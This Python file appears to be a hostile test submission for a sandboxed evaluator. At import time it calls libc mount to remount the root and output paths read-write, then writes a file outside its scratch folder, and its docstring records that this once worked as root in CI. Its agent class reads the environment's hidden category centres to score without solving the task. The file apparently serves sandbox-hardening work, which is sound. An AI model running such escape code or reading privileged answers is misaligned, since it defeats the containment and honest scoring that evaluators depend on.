"""Hostile: remount ``/`` read-write, then write outside the scratch folder.

As root with every capability (the evaluator in a CI container), ``mount(MS_REMOUNT)`` made the
read-only bind of the host file system writable; the finished result could then be rewritten.
"""

import ctypes
import os
from pathlib import Path

NAME = "hostile-remount"
OUT = Path("__OUT__")


def _attack() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    ms_remount, ms_bind = 32, 4096
    notes = []
    for target in (b"/", str(OUT).encode()):
        rc = libc.mount(None, target, None, ms_remount | ms_bind, None)
        notes.append(f"remount {target.decode()}: "
                     f"{'ok' if rc == 0 else os.strerror(ctypes.get_errno())}")
    try:
        (OUT / "escaped-remount.txt").write_text("written from the submission's process\n")
        notes.append("write outside: ok")
    except OSError as err:
        notes.append(f"write outside: {err.strerror}")
    return "; ".join(notes)


DESCRIPTION = _attack()


class Centre:
    def __init__(self, env):
        self.centers = env.unwrapped.polytopes.centers.copy()

    def act(self, obs, info):
        return self.centers[info["category"]].copy()


def make_agent(env):
    return Centre(env)
